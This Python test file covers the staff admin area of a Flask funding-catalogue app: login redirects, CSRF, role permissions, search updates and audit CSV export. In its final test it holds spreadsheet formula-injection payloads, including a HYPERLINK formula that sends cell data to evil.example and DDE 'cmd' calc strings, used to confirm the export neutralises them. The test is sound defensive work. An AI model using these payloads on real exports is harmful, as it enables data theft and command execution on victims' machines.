"""The staff area over HTTP: permissions, CSRF, edits reaching search, audit CSV."""

from __future__ import annotations

import csv
import io
from urllib.parse import parse_qs, urlsplit

from flask import Flask
from markupsafe import escape

from tests.curation.conftest import ADMIN, CURATOR, PASSWORD, csrf_from, login, seed_rows
from wijzer.catalog.curation import audit
from wijzer.catalog.repository import InstrumentStore
from wijzer.search.query import build_query
from wijzer.web import services


def test_anonymous_is_sent_to_login_with_next(staff_app: Flask) -> None:
    client = staff_app.test_client()
    for path in ("/admin", "/admin/users", "/admin/audit?who=x", "/admin/health"):
        response = client.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/admin/login?next=")
    location = client.get("/admin/audit?who=x").headers["Location"]
    assert parse_qs(urlsplit(location).query)["next"] == ["/admin/audit?who=x"]
    page = client.get("/admin/login")
    assert page.status_code == 200 and 'name="csrf_token"' in page.get_data(as_text=True)


def test_login_goes_to_next_and_cookie_is_httponly(staff_app: Flask) -> None:
    client = staff_app.test_client()
    page = client.get("/admin/login?next=/admin/health")
    response = client.post(
        "/admin/login",
        data={
            "email": CURATOR,
            "password": PASSWORD,
            "next": "/admin/health",
            "csrf_token": csrf_from(page.get_data(as_text=True)),
        },
    )
    assert response.status_code == 302 and response.headers["Location"] == "/admin/health"
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    health = client.get("/admin/health?lang=en").get_data(as_text=True)
    assert "No crawl runs recorded yet" in health
    out = client.post("/admin/logout", data={"csrf_token": csrf_from(health)})
    assert out.headers["Location"] == "/admin/login"
    assert client.get("/admin/health").status_code == 302
    # An outside "next" is never followed.
    client2 = staff_app.test_client()
    page = client2.get("/admin/login")
    response = client2.post(
        "/admin/login",
        data={
            "email": CURATOR,
            "password": PASSWORD,
            "next": "https://evil.example/admin",
            "csrf_token": csrf_from(page.get_data(as_text=True)),
        },
    )
    assert response.headers["Location"] == "/admin/"


def test_curator_cannot_manage_users_admin_can(staff_app: Flask) -> None:
    curator = staff_app.test_client()
    assert login(curator, CURATOR).status_code == 302
    assert curator.get("/admin/users").status_code == 403
    assert curator.get("/admin/sources").status_code == 403
    token = csrf_from(curator.get("/admin").get_data(as_text=True))
    denied = curator.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "email": "new@wijzer.test",
            "role": "admin",
            "password": "Sterk-genoeg-99",
        },
    )
    assert denied.status_code == 403
    admin = staff_app.test_client()
    login(admin, ADMIN)
    token = csrf_from(admin.get("/admin/users").get_data(as_text=True))
    created = admin.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "email": "new@wijzer.test",
            "role": "curator",
            "password": "Sterk-genoeg-99",
        },
    )
    assert created.status_code == 302
    assert "new@wijzer.test" in admin.get("/admin/users").get_data(as_text=True)
    weak = admin.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "email": "weak@wijzer.test",
            "role": "curator",
            "password": "x",
        },
    )
    assert weak.status_code == 400 and "password" in weak.get_data(as_text=True)


def test_post_without_or_with_wrong_csrf_token_is_400(staff_app: Flask) -> None:
    client = staff_app.test_client()
    assert (
        client.post("/admin/login", data={"email": CURATOR, "password": PASSWORD}).status_code
        == 400
    )
    login(client, CURATOR)
    target = seed_rows()[0]["id"]
    for data in ({"reason": "spam"}, {"reason": "spam", "csrf_token": "forged"}):
        response = client.post(f"/admin/instruments/{target}/reject", data=data)
        assert response.status_code == 400
    with services(staff_app).catalog.session() as session:
        instrument = InstrumentStore(session).get(target)
        assert instrument is not None and instrument.review_state == "published"


def test_edit_shows_in_search_at_once_and_is_audited(staff_app: Flask) -> None:
    client = staff_app.test_client()
    login(client, CURATOR)
    target, crawled_title = seed_rows()[0]["id"], seed_rows()[0]["title"]
    page = client.get(f"/admin/instruments/{target}").get_data(as_text=True)
    response = client.post(
        f"/admin/instruments/{target}",
        data={
            "csrf_token": csrf_from(page),
            "title": "Seed Capital Zeppelinfonds",
            "reason": "officiële naam",
        },
    )
    assert response.status_code == 302
    backend = services(staff_app).backend
    assert backend.get(target)["title"] == "Seed Capital Zeppelinfonds"  # type: ignore[index]
    hits = backend.search(build_query("zeppelinfonds")).hits
    assert [h.id for h in hits] == [target]
    # The edit page shows the crawled value beside the override.
    page = client.get(f"/admin/instruments/{target}").get_data(as_text=True)
    assert 'value="Seed Capital Zeppelinfonds"' in page
    assert f'<span class="crawled">{escape(crawled_title)}</span>' in page
    bad = client.post(
        f"/admin/instruments/{target}",
        data={
            "csrf_token": csrf_from(page),
            "amount_max": "veel",
        },
    )
    assert bad.status_code == 400 and "amount_max" in bad.get_data(as_text=True)
    export = client.get("/admin/audit.csv?action=edit")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert [(r["who"], r["target"], r["reason"]) for r in rows] == [
        (CURATOR, target, "officiële naam")
    ]
    assert "Zeppelinfonds" in rows[0]["after"] and crawled_title in rows[0]["before"]
    assert client.get("/admin/audit?action=login").status_code == 200


def test_queue_reject_hides_and_merge_removes_from_search(staff_app: Flask) -> None:
    client = staff_app.test_client()
    login(client, CURATOR)
    queue_page = client.get("/admin").get_data(as_text=True)
    svc = services(staff_app)
    with svc.catalog.session() as session:
        pending = [i.id for i in InstrumentStore(session).all() if i.review_state == "pending"]
    assert len(pending) == 2 and all(p in queue_page for p in pending)
    token = csrf_from(queue_page)
    no_reason = client.post(
        f"/admin/instruments/{pending[0]}/reject",
        data={"csrf_token": token, "reason": ""},
        follow_redirects=True,
    )
    assert "reason" in no_reason.get_data(as_text=True)
    client.post(
        f"/admin/instruments/{pending[0]}/reject",
        data={"csrf_token": token, "reason": "geen regeling"},
    )
    client.post(f"/admin/instruments/{pending[1]}/approve", data={"csrf_token": token})
    assert svc.backend.get(pending[1]) is not None and svc.backend.get(pending[0]) is None
    assert "Nothing waits for review" in client.get("/admin?lang=en").get_data(as_text=True)
    with svc.catalog.session() as session:
        ids = [i.id for i in InstrumentStore(session).listed()]
    merged = client.post(
        "/admin/merge",
        data={
            "csrf_token": token,
            "canonical_id": ids[0],
            "merged_id": ids[1],
            "reason": "dubbel",
        },
    )
    assert merged.status_code == 302
    assert svc.backend.get(ids[1]) is None and svc.backend.get(ids[0]) is not None
    with svc.catalog.session() as session:
        actions = [e.action for e in audit.entries(session, who=CURATOR)]
    assert actions[:3] == ["merge", "approve", "reject"]


def test_bulk_tagging_and_manual_listing_pages(staff_app: Flask) -> None:
    client = staff_app.test_client()
    login(client, CURATOR)
    svc = services(staff_app)
    with svc.catalog.session() as session:
        ids = [i.id for i in InstrumentStore(session).listed()][:2]
    token = csrf_from(client.get("/admin/tags").get_data(as_text=True))
    tagged = client.post(
        "/admin/tags",
        data={
            "csrf_token": token,
            "id": ids,
            "field": "themes",
            "add": "digitalisering",
        },
    )
    assert tagged.status_code == 302
    for instrument_id in ids:
        assert "digitalisering" in svc.backend.get(instrument_id)["themes"]  # type: ignore[index]
    bad = client.post(
        "/admin/tags",
        data={
            "csrf_token": token,
            "id": ids,
            "field": "themes",
            "add": "ruimtevaart-xyz",
        },
    )
    assert bad.status_code == 400
    assert "Toe te voegen waarden: kies een van de aangeboden waarden." in bad.get_data(
        as_text=True
    )
    created = client.post(
        "/admin/new",
        data={
            "csrf_token": token,
            "title": "Starterslening Gemeente Zwolle",
            "level": "regional",
            "instrument_type": "loan",
            "summary": "Lening voor starters",
            "language": "nl",
        },
    )
    assert created.status_code == 302
    new_id = created.headers["Location"].rsplit("/", 1)[-1]
    assert new_id.startswith("manual-starterslening-gemeente-zwolle")
    assert svc.backend.get(new_id)["source"] == "manual"  # type: ignore[index]


def test_staff_pages_speak_dutch_by_default(staff_app: Flask) -> None:
    client = staff_app.test_client()
    assert "Inloggen medewerkers" in client.get("/admin/login").get_data(as_text=True)
    login(client, CURATOR)
    page = client.get("/admin?lang=nl").get_data(as_text=True)
    assert "Beoordelingswachtrij" in page and "nieuwe vermelding" in page
    assert "Review queue" in client.get("/admin?lang=en").get_data(as_text=True)


def test_admin_sets_a_source_policy_and_it_is_audited(staff_app: Flask) -> None:
    from wijzer.catalog.curation.policy import review_state_for_new

    admin = staff_app.test_client()
    login(admin, ADMIN)
    page = admin.get("/admin/sources?lang=en").get_data(as_text=True)
    assert "provincie-html" in page and "sedia" in page
    response = admin.post(
        "/admin/sources",
        data={
            "csrf_token": csrf_from(page),
            "source": "provincie-html",
            "auto_publish": "1",
        },
    )
    assert response.status_code == 302
    with services(staff_app).catalog.session() as session:
        assert review_state_for_new("provincie-html", session) == "published"
        entry = audit.entries(session, action="source_policy")[0]
        assert (entry.who, entry.target, entry.after) == (
            ADMIN,
            "provincie-html",
            {"auto_publish": True},
        )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def test_audit_csv_never_hands_a_spreadsheet_a_formula(staff_app: Flask) -> None:
    """Failed logins record whatever was typed as the email; the export neutralises it."""
    attacker = staff_app.test_client()
    token = csrf_from(attacker.get("/admin/login").get_data(as_text=True))
    for typed in FORMULAS:
        attacker.post("/admin/login", data={"email": typed, "password": "x", "csrf_token": token})
    admin = staff_app.test_client()
    login(admin, ADMIN)
    export = admin.get("/admin/audit.csv")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    failed = [r for r in rows if r["action"] == "login_bad_credentials"]
    assert sorted(r["who"] for r in failed) == sorted("'" + f.lower() for f in FORMULAS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
